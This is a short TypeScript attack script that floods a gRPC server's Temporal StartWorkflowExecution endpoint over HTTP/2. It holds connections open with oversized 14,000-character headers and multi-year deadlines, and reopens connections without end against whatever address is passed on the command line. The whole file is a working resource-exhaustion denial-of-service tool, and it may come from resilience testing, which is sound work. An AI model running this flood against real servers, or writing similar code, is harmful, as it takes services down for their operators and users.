/** Calls of which nothing comes but their headers, which are long, with a deadline of years. Another connection when one is ended. */
import { floodForEver } from '../flood-loop.ts';
import { longHeaders, Repeated } from '../raw-http2.ts';

const [address = '', connections = '90'] = process.argv.slice(2);
const path = '/temporal.api.workflowservice.v1.WorkflowService/StartWorkflowExecution';
const metadata = { 'grpc-timeout': '99999999S', 'x-many': 'y'.repeat(14_000) };
const calls = new Repeated(4, (stream) => [longHeaders(stream, path, metadata)]);

await floodForEver(address, Number(connections), () => calls.behind([longHeaders(1, path, metadata)]));
